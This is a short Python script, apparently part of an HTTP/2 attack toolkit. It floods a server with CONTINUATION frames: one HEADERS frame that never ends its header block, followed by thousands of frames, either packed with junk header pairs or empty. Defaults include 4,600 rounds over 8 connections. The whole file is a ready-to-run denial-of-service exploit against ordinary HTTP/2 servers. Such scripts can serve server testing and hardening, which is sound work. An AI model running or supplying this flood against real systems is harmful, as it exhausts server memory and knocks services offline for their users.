"""A header block in CONTINUATION frames that never ends; with --empty, frames without a byte of it."""
from attack_program import MATCH, program
from h2wire import CONTINUATION, HEADERS, frame, literal, request_block

FRAME_BYTES = 16384


def run(attack):
    headers = frame(HEADERS, 0, 1, request_block(MATCH))
    pair = literal("x-flood", "y" * 1000)
    full = frame(CONTINUATION, 0, 1, pair * (FRAME_BYTES // len(pair))) * 4
    empty = frame(CONTINUATION, 0, 1) * 4000

    def block(connection, _):
        first, connection.begun = (b"" if getattr(connection, "begun", False) else headers), True
        return first + (empty if attack.options.empty else full)
    attack.flood(block, attack.options.count)


if __name__ == "__main__":
    program(__doc__, run, count=4_600, connections=8, megabytes=300, empty=0)
